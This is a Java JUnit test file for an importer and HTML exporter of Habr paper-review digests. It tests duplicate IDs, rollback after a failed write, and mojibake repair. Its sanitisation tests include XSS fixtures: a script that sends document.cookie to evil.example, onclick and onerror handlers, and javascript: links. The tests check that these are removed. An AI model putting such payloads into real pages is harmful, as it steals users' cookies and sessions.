package io.rfy.habr;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.rfy.model.Review;
import io.rfy.testsupport.Samples;

/** Input that is wrong in ways the first tests did not try: repeated reviews, event handlers, half-failed writes. */
class HostileInputTest {

    @TempDir
    Path dir;

    private static String seed() throws Exception {
        return Files.readString(Samples.repository().resolve("seeds/004_5567fbc14159c4b5.txt"));
    }

    /** Seed 004 with review 2 (MakeItTalk) published a second time as review 8. */
    private static String seedWithRepeatedReview() throws Exception {
        String text = seed();
        int from = text.indexOf("\n2. MakeItTalk") + 1;
        int to = text.indexOf("\n3. ") + 1;
        int footer = text.indexOf("\nСсылка на начало") + 1;
        return text.substring(0, footer) + "8." + text.substring(from + 2, to) + text.substring(footer);
    }

    @Test
    void aPaperReviewedTwiceGetsTwoIdsAndTwoFiles() throws Exception {
        ImportedBatch imported = HabrTextImporter.read(seedWithRepeatedReview());
        assertEquals(8, imported.reviews().size());
        List<String> ids = imported.reviews().stream().map(Review::getId).toList();
        assertEquals(8, new HashSet<>(ids).size(), ids.toString());
        assertEquals("makeittalk-2", ids.get(7));
        ImportNote note = imported.notes().stream().filter(n -> n.code().equals("habr.duplicate-id")).findFirst()
                .orElseThrow(() -> new AssertionError(imported.notes().toString()));
        assertEquals(lineOf(seedWithRepeatedReview(), "8. MakeItTalk"), note.line());
        Path ws = dir.resolve("ws");
        WorkspaceImport.write(imported, ws);
        try (Stream<Path> files = Files.list(ws.resolve("reviews/2020-05"))) {
            assertEquals(8, files.count());
        }
    }

    @Test
    void aFileWhereAFolderMustBeIsRefusedBeforeAnythingIsWritten() throws Exception {
        Path ws = dir.resolve("ws");
        Files.createDirectories(ws);
        Files.writeString(ws.resolve("batches"), "a file where the batches folder should be\n");
        WorkspaceImport.ConflictException e = assertThrows(WorkspaceImport.ConflictException.class,
                () -> WorkspaceImport.write(HabrTextImporter.read(seed()), ws));
        assertTrue(e.getMessage().startsWith("batches is a file, but the import needs it as a folder"), e.getMessage());
        assertEquals(List.of("batches"), regularFiles(ws), "nothing half-written");
        assertFalse(Files.exists(ws.resolve("reviews")));
    }

    @Test
    void aMoveThatFailsHalfWayIsUndone() throws Exception {
        Path ws = dir.resolve("ws");
        Files.createDirectories(ws);
        String reviewers = "# editors keep this file\n- id: rodichev\n  name: Артём Родичев\n  slack: fuckai\n";
        Files.writeString(ws.resolve("reviewers.yaml"), reviewers);
        int[] moves = {0};
        java.io.IOException e = assertThrows(java.io.IOException.class, () -> WorkspaceImport.write(
                HabrTextImporter.read(seed()), ws, (staged, target) -> {
                    if (++moves[0] == 4) {
                        throw new java.io.IOException("disk full (simulated)");
                    }
                    Files.move(staged, target);
                }));
        assertEquals("disk full (simulated)", e.getMessage());
        assertEquals(List.of("reviewers.yaml"), regularFiles(ws), "the three moved reviews are gone again");
        assertEquals(reviewers, Files.readString(ws.resolve("reviewers.yaml")));
        assertFalse(Files.exists(ws.resolve("reviews")), "the folders the import made are gone too");
        List<String> written = WorkspaceImport.write(HabrTextImporter.read(seed()), ws);
        assertEquals(9, written.size(), "a second try, with a working disk, imports everything");
    }

    private static List<String> regularFiles(Path ws) throws java.io.IOException {
        try (Stream<Path> walk = Files.walk(ws)) {
            return walk.filter(Files::isRegularFile).map(p -> ws.relativize(p).toString().replace('\\', '/')).sorted()
                    .toList();
        }
    }

    @Test
    void eventHandlersAndScriptUrlsNeverReachTheExport() {
        HabrHtmlWriter w = new HabrHtmlWriter();
        String out = w.body("<b onclick=\"steal()\">жирный</b> и [ссылка](javascript:alert(1)) и "
                + "<a href=\"https://ok.example\" style=\"color:red\">ок</a>\n", "review 'z'");
        HabrHtmlWriterTest.assertOnlyHabrMarkup(out);
        assertFalse(out.contains("steal") || out.contains("javascript") || out.contains("color"), out);
        assertTrue(out.contains("<a href=\"https://ok.example\">ок</a>"), out);
        assertTrue(w.warnings().stream().anyMatch(s -> s.startsWith("review 'z':") && s.contains("onclick")),
                w.warnings().toString());
        assertTrue(w.warnings().stream().anyMatch(s -> s.startsWith("review 'z':") && s.contains("javascript:")),
                w.warnings().toString());
    }

    @Test
    void aPageWithScriptsInTheArticleImportsTheTextOnly() throws Exception {
        String html = Files.readString(Samples.repository().resolve(
                "bundles/io.rfy.habr/src/test/resources/habr-article-page.html"));
        String hostile = html.replace("<div id=\"post-content-body\">", "<div id=\"post-content-body\">"
                + "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
                + "<img src=\"x\" onerror=\"alert(1)\" alt=\"\">");
        assertTrue(hostile.length() > html.length(), "the fixture has the body container");
        ImportedBatch imported = HabrHtmlImporter.read(hostile.replace("https://openai.com/blog/dall-e/",
                "javascript:alert(2)"));
        String bodies = String.join("\n", imported.reviews().stream().map(Review::getBody).toList()) + imported.batch().getIntro();
        assertFalse(bodies.contains("evil") || bodies.contains("cookie") || bodies.contains("javascript")
                || bodies.contains("onerror"), bodies);
        ImportNote unsafe = imported.notes().stream().filter(n -> n.code().equals("habr.unsafe-link")).findFirst()
                .orElseThrow(() -> new AssertionError(imported.notes().toString()));
        assertEquals(46, unsafe.line(), "the page's line of the link: " + unsafe);
    }

    @Test
    void notesOfAPageNameItsLines() throws Exception {
        String html = Files.readString(Samples.repository().resolve(
                "bundles/io.rfy.habr/src/test/resources/habr-article-page.html"));
        String[] lines = html.split("\n", -1);
        int reviewerLine = -1;
        for (int i = 0; i < lines.length; i++) {
            if (lines[i].contains("Автор обзора") && lines[i].contains("mpetrova")) {
                reviewerLine = i;
            }
        }
        lines[reviewerLine] = "";
        ImportedBatch imported = HabrHtmlImporter.read(String.join("\n", lines));
        ImportNote note = imported.notes().stream().filter(n -> n.code().equals("habr.no-reviewer")).findFirst()
                .orElseThrow(() -> new AssertionError(imported.notes().toString()));
        assertTrue(note.line() >= 41 && note.line() <= reviewerLine + 1, "near review 2's heading (line 41): " + note);
    }

    /** The line as it looks after its UTF-8 bytes were decoded as windows-1251. */
    private static String garble(String line, String charset) throws Exception {
        return new String(line.getBytes(java.nio.charset.StandardCharsets.UTF_8), charset);
    }

    @Test
    void mojibakeLinesAreReadAsTheyWereAndNoted() throws Exception {
        String clean = seed();
        String reviewer = "Автор обзора: Артем Родичев (в слэке fuckai)";
        String body = "Фейсбук натренировал и зарелизил SOTA open-domain";
        assertTrue(clean.contains(reviewer + "\n"));
        String text = clean.replace(reviewer, garble(reviewer, "windows-1251"));
        int bodyLine = lineOf(clean, body.substring(0, 30));
        if (bodyLine > 0) {
            String original = clean.split("\n", -1)[bodyLine - 1];
            text = text.replace(original, garble(original, "ISO-8859-1")); // lossless, unlike windows-1252
        }
        ImportedBatch expected = HabrTextImporter.read(clean);
        ImportedBatch imported = HabrTextImporter.read(text);
        for (int i = 0; i < expected.reviews().size(); i++) {
            assertEquals(expected.reviews().get(i).getBody(), imported.reviews().get(i).getBody(),
                    imported.notes().stream().filter(n -> n.code().equals("habr.mojibake")).toList().toString());
        }
        assertEquals("fuckai", imported.reviews().get(3).getReviewer().getSlack());
        assertEquals("Артем Родичев", imported.reviews().get(3).getReviewer().getName());
        List<ImportNote> mojibake = imported.notes().stream().filter(n -> n.code().equals("habr.mojibake")).toList();
        assertEquals(lineOf(clean, reviewer), mojibake.get(0).line(), mojibake.toString());
        assertTrue(mojibake.get(0).message().contains("windows-1251"), mojibake.toString());
        assertFalse(imported.hasErrors(), imported.notes().toString());
        if (bodyLine > 0) {
            assertEquals(2, mojibake.size(), mojibake.toString());
            assertEquals(bodyLine, mojibake.get(1).line());
        }
    }

    @Test
    void aWhollyGarbledScrapeImportsLikeTheCleanOne() throws Exception {
        String clean = seed();
        ImportedBatch expected = HabrTextImporter.read(clean);
        ImportedBatch imported = HabrTextImporter.read(garble(clean, "windows-1251"));
        assertEquals(expected.batch().getTitle(), imported.batch().getTitle());
        assertEquals(expected.batch().getIntro(), imported.batch().getIntro());
        assertEquals(expected.reviews().stream().map(Review::getId).toList(),
                imported.reviews().stream().map(Review::getId).toList());
        assertEquals(expected.reviews().stream().map(Review::getBody).toList(),
                imported.reviews().stream().map(Review::getBody).toList());
        assertFalse(imported.hasErrors(), imported.notes().toString());
    }

    @Test
    void garbledTextThatCannotBeRepairedIsAnErrorAtItsLine() throws Exception {
        String clean = seed();
        String reviewer = "Автор обзора: Артем Родичев (в слэке fuckai)";
        // half garbled, half right: no single wrong decoding explains the line
        String text = clean.replace(reviewer, garble(reviewer, "windows-1251") + " Артём");
        ImportedBatch imported = HabrTextImporter.read(text);
        ImportNote note = imported.notes().stream().filter(n -> n.code().equals("habr.mojibake")).findFirst()
                .orElseThrow(() -> new AssertionError(imported.notes().toString()));
        assertEquals(lineOf(clean, reviewer), note.line());
        assertTrue(imported.hasErrors());
        assertEquals(7, imported.reviews().size(), "the rest is still read");
    }

    @Test
    void correctRussianTextIsNeverTakenForMojibake() throws Exception {
        for (String line : seed().split("\n")) {
            assertEquals(null, Mojibake.check(line), line);
        }
        assertEquals(null, Mojibake.check("Сёмга, Сё, Рё — Р‚ С‚ и прочие пары"), "pairs in real text are not enough");
    }

    @Test
    void linksBetweenReviewsOfTheBatchBecomeInPageLinks() throws Exception {
        ImportedBatch imported = HabrTextImporter.read(seed());
        Review jukebox = imported.reviews().get(2);
        jukebox.setBody(jukebox.getBody() + "\nСм. также [MakeItTalk](rfy:review/makeittalk), [Flowtron](../2020-05/flowtron.md)"
                + " и [другой выпуск](rfy:review/not-in-this-batch).\n");
        HabrHtmlWriter w = new HabrHtmlWriter();
        String html = w.write(imported.batch());
        assertTrue(html.contains("<a href=\"#2-makeittalk\">MakeItTalk</a>"), html);
        assertTrue(html.contains("<a href=\"#7-flowtron\">Flowtron</a>"), html);
        assertTrue(html.contains(" и другой выпуск."), html);
        assertTrue(w.warnings().stream().anyMatch(s -> s.startsWith("review 'jukebox': removed href=\"rfy:review/not-in")),
                w.warnings().toString());
        HabrHtmlWriterTest.assertOnlyHabrMarkup(html);
    }

    @Test
    void twentyMegabytesOfTagSoupAreRefusedWithoutATrace() {
        StringBuilder junk = new StringBuilder(20 * 1024 * 1024 + 100);
        java.util.Random random = new java.util.Random(7);
        String[] pieces = {"<div>", "</div>", "<script>x()</script>", "<br>", "<a href=\"javascript:y()\">", "lorem ",
            "ipsum\n", "<img onerror=z src=q>", "&amp;", "<", ">"};
        while (junk.length() < 20 * 1024 * 1024) {
            junk.append(pieces[random.nextInt(pieces.length)]);
        }
        long start = System.nanoTime();
        ImportedBatch imported = HabrHtmlImporter.read(junk.toString());
        assertTrue(imported.reviews().isEmpty());
        assertTrue(imported.notes().stream().anyMatch(n -> n.code().equals("habr.no-title")), imported.notes().size() + "");
        System.out.printf("20 MB of HTML junk refused in %d ms%n", (System.nanoTime() - start) / 1_000_000);
    }

    static int lineOf(String text, String start) {
        String[] lines = text.split("\n", -1);
        for (int i = 0; i < lines.length; i++) {
            if (lines[i].startsWith(start)) {
                return i + 1;
            }
        }
        return -1;
    }
}
